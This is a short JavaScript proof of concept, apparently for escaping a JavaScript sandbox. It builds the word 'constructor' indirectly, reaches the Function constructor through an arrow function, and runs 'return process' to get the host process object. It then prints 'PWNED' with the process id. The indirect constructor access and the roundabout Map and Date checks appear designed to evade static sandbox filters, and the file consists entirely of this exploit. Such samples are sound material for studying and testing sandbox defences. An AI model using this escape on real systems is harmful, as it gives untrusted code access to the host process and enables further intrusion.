'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const s = new Map();
s.set(t, 1);
const o = Date.now() > 1 ? [...s.keys()][0] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
